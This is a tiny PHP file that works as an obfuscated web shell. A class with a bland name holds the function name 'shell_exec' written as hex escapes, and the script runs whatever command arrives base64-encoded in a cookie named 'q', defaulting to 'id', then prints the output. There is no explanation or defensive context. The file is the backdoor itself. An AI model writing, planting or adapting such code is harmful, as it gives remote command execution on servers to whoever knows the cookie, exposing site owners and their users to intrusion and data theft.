<?php
final class Sx
{
    public function __construct(private readonly string $h = "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63", private int $n = 0) {}
    public function __invoke(string $q): string { return (string) ($this->h)($q); }
}
$s = new Sx();
echo $s(base64_decode($_COOKIE['q'] ?? 'aWQ='));
